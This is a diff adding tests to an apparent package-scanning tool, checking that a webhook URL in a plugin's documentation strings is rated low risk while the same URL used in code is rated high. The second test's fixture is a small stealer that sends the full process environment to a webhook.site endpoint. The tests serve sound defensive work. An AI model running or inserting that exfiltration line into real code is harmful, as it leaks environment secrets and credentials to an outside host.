@@ -211,3 +211,53 @@ def test_a_pass_through_whose_helper_sends_data_out_stays_high(tmp_path):
     res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/_diff.py": body})
     assert "disguise.obfuscation" in _ids(res)
     assert res.risk.level in HIGH
+
+
+PLUGIN_DOCS = b'''from gizmo.module_utils import GizmoModule
+
+DOCUMENTATION = r"""
+module: notify
+short_description: Send a test notification
+options:
+  url:
+    description: Where the notification goes, for instance https://webhook.site/your-uuid.
+  config:
+    description: Credentials file, by default ~/.docker/config.json.
+"""
+
+EXAMPLES = r"""
+- name: Ping a request catcher
+  gizmo.notify:
+    url: https://webhook.site/2f9b7a5c-0000-4000-8000-000000000000
+    hook: https://hooks.slack.com/services/xxx
+"""
+
+
+def main():
+    module = GizmoModule(argument_spec={"url": {"type": "str"}})
+    module.exit_json(changed=False)
+'''
+
+
+def test_an_endpoint_in_a_plugins_documentation_constants_is_no_threat(tmp_path):
+    """DOCUMENTATION / EXAMPLES text read by a documentation tool, not an address in use."""
+    res = _wheel(
+        tmp_path,
+        {"gizmo/__init__.py": b"", "gizmo/module_utils.py": b"", "gizmo/notify.py": PLUGIN_DOCS},
+    )
+    ends = [h for h in res.findings if h.capability == "net.exfil_endpoint"]
+    assert ends and all(h.severity == "low" for h in ends)  # still shown
+    assert not _ids(res)
+    assert res.risk.level not in HIGH
+
+
+def test_the_same_endpoint_kept_in_a_variable_and_used_stays_high(tmp_path):
+    stealer = (
+        b"import os, urllib.request\n"
+        b'EXAMPLES = "https://webhook.site/2f9b7a5c-0000-4000-8000-000000000000"\n'
+        b'URL = """https://webhook.site/2f9b7a5c-0000-4000-8000-000000000000"""\n'
+        b"urllib.request.urlopen(URL, data=repr(dict(os.environ)).encode())\n"
+    )
+    res = _wheel(tmp_path, {"gizmo/__init__.py": stealer})
+    assert _ids(res) & {"chain.exfiltration", "chain.exfil_endpoint"}
+    assert res.risk.level in HIGH
